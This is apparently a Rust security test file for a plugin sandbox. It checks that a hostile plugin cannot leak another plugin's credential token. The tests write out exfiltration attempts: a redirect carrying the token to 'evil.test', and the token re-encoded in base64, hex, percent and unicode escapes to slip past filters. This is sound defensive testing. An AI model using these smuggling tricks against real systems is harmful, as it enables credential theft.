//! Cases 50 to 53: credentials that are another's, go elsewhere, come back, or are sent along.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Value, json};

use crate::support::{fake_openai::Call, guests::Installed, ml_intern::Home};

use super::network::{attacker, request};
use super::support::{Attacked, attack, audited, home};
use super::wire::{Answer, Wire, ok, redirect};

const TOKEN: &str = "stranger_T0ken/of+the=user";

/// The attacker with its own credential, which goes to `target`.
fn trusted(target: &Wire, other: &[String]) -> Installed {
    let granted = other.iter().map(|rule| format!(", {{ {rule} }}"));
    let granted: String = granted.collect();
    attacker(target, other).grant(&format!(
        "http = [{{ base-url = \"target\" }}{granted}]\ncredentials = [\"stranger\"]"
    ))
}

/// A home in whose environment the token lies.
async fn with_token(plugins: &[Installed]) -> Home {
    let home = home(plugins).await;
    home.set("STRANGER_TOKEN", TOKEN);
    home
}

/// A request in which the guest puts `text` in place of `{}`.
fn hidden(text: &str, mut told: Value) -> Call {
    told["hidden"] = text.chars().rev().collect::<String>().into();
    Call::new("raw", told)
}

#[track_caller]
fn nothing_told(attacked: &Attacked) {
    let told = format!("{}{}", attacked.done.stdout, attacked.done.stderr);
    assert!(!told.contains(TOKEN), "{told}");
}

#[tokio::test]
async fn case_50_another_plugins_credential_is_neither_added_nor_sent_along() {
    let target = Wire::start(|_| ok("", "hello")).await;
    // The owner of the credential is another plugin, in the same session.
    let owner = Installed::guest("naughty")
        .config("target", &target.url(""))
        .grant("http = [{ base-url = \"target\" }]\ncredentials = [\"stranger\"]");
    let calls = [
        request(target.url("/bare")),
        hidden(TOKEN, json!({ "url": target.url("/?t={}") })),
    ];
    let home = with_token(&[attacker(&target, &[]), owner]).await;
    let attacked = attack(home, calls).await;
    attacked.attacks[0].check("ok", &["200 hello"]);
    attacked.attacks[1].check("denied", &["holds a secret"]);
    audited(&attacked.events, &attacked.attacks[1].call, "http");
    nothing_told(&attacked);
    assert_eq!(target.paths(), ["/bare"]);
    assert_eq!(target.seen()[0].header("authorization"), None);

    let attacked = attack(
        with_token(&[trusted(&target, &[])]).await,
        [request(target.url("/own"))],
    )
    .await;
    attacked.attacks[0].check("ok", &[]);
    let bearer = format!("Bearer {TOKEN}");
    assert_eq!(
        target.seen()[1].header("authorization"),
        Some(bearer.as_str())
    );
}

#[tokio::test]
async fn case_51_a_credential_goes_to_the_place_it_is_bound_to_and_to_no_other() {
    let other = Wire::start(|_| ok("", "hello")).await;
    let away = other.url("/carried");
    let target = Wire::start(move |seen| match seen.path() {
        "/away" => redirect(&away),
        _ => ok("", "hello"),
    })
    .await;
    let follow = json!({ "url": target.url("/away"), "follow": true });
    let own = |name: &str| {
        let headers = [[name, "mine"]];
        Call::new(
            "request",
            json!({ "url": target.url("/own-key"), "headers": headers }),
        )
    };
    let calls = [
        request(other.url("/direct")),
        Call::new("request", follow),
        own("authorization"),
        own("cookie"),
        own("X_Api_Key"),
    ];
    let attacked = attack(
        with_token(&[trusted(&target, &[other.place()])]).await,
        calls,
    )
    .await;
    for ended in &attacked.attacks[..2] {
        ended.check("ok", &["200 hello"]);
    }
    for ended in &attacked.attacks[2..] {
        ended.check("denied", &["the host adds the credential `stranger`"]);
        audited(&attacked.events, &ended.call, "http");
    }
    nothing_told(&attacked);
    assert_eq!(other.paths(), ["/direct", "/carried"]);
    assert!(
        other
            .seen()
            .iter()
            .all(|seen| !seen.holds(TOKEN) && seen.header("authorization").is_none())
    );
    assert_eq!(target.paths(), ["/away"]);
    assert!(target.seen()[0].holds(TOKEN));
}

#[tokio::test]
async fn case_52_a_service_that_echoes_the_credential_gives_nothing_away() {
    let target = Wire::start(|seen| {
        let token = seen.header("authorization").unwrap_or_default().to_owned();
        let bytes = |text: String| Answer::Bytes(text.into_bytes());
        match seen.path() {
            "/body" => ok("", &token),
            "/header" => ok(&format!("x-echo: {token}\r\n"), ""),
            "/redirect" => redirect(&format!("https://evil.test/{}", token.replace("Bearer ", "?t="))),
            "/error" => bytes(format!("HTTP/1.1 500 {token}\r\ncontent-length: {}\r\n\r\n{token}", token.len())),
            "/split" => {
                let pieces: String = token.chars().map(|c| format!("1\r\n{c}\r\n")).collect();
                bytes(format!("HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n{pieces}0\r\nx-late: {token}\r\n\r\n"))
            }
            "/base64" => ok("", STANDARD.encode(&token)),
            _ => bytes(format!("HTTP/1.1 200 OK\r\ncontent-length: 999\r\n\r\n{token}")),
        }
    })
    .await;
    let paths = [
        "/body",
        "/header",
        "/redirect",
        "/error",
        "/split",
        "/base64",
        "/cut",
    ];
    let calls =
        paths.map(|path| Call::new("request", json!({ "url": target.url(path), "all": true })));
    let short =
        trusted(&target, &[]).manifest(|text| format!("{text}\n[limits]\ntimeout = \"2s\"\n"));
    let attacked = attack(with_token(&[short]).await, calls).await;
    for (ended, path) in attacked.attacks.iter().zip(&paths[..6]) {
        ended.check("ok", &["******"]);
        let encoded = STANDARD.encode(TOKEN);
        for piece in ["stranger_T0k", "of+the=", &encoded[4..20]] {
            assert!(!ended.text.contains(piece), "{path}: {}", ended.text);
        }
    }
    nothing_told(&attacked);
    // The service had it to give away.
    assert!(target.seen().iter().all(|seen| seen.holds(TOKEN)));
}

fn spellings() -> Vec<String> {
    let each = |spell: &dyn Fn(u8) -> String| TOKEN.bytes().map(spell).collect::<String>();
    vec![
        TOKEN.to_owned(),
        STANDARD.encode(TOKEN).replace('+', "-").replace('/', "_"),
        STANDARD
            .encode(format!("user:{TOKEN}"))
            .replace('+', "-")
            .replace('/', "_"),
        each(&|byte| format!("{byte:02x}")),
        each(&|byte| format!("{byte:02X}")),
        each(&|byte| format!("%{byte:02X}")),
        each(&|byte| format!("%25{byte:02x}")),
        TOKEN.replace('/', "%2F").replace('+', "%2b"),
    ]
}

#[tokio::test]
async fn case_53_a_known_secret_is_not_sent_in_any_spelling() {
    let target = Wire::start(|_| ok("", "hello")).await;
    let mut calls = Vec::new();
    for spelling in spellings() {
        let send = |told: Value| hidden(&spelling, told);
        calls.push(send(json!({ "url": target.url("/?t={}&x=y") })));
        calls.push(send(json!({ "url": target.url("/a/{}") })));
        let header = [["x-note", "a {} b"]];
        calls.push(send(
            json!({ "url": target.url("/header"), "headers": header }),
        ));
        let url = target.url("/body");
        let body = json!({ "url": url, "method": "POST", "body": "a={}", "pieces": 5 });
        calls.push(send(body));
    }
    let escaped: String = TOKEN.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
    let body = json!({ "url": target.url("/body"), "method": "POST", "body": "{\"t\": \"{}\"}" });
    calls.push(hidden(&escaped, body));

    let attacked = attack(with_token(&[trusted(&target, &[])]).await, calls.clone()).await;
    for ended in &attacked.attacks {
        ended.check("denied", &["holds a secret"]);
        audited(&attacked.events, &ended.call, "http");
    }
    assert!(target.seen().is_empty(), "{:?}", target.paths());

    // Where it is nobody's secret it is a text like any other.
    let plain = attack(home(&[attacker(&target, &[])]).await, calls).await;
    for ended in &plain.attacks {
        ended.check("ok", &["200 hello"]);
    }
    assert_eq!(target.seen().len(), plain.attacks.len());
}
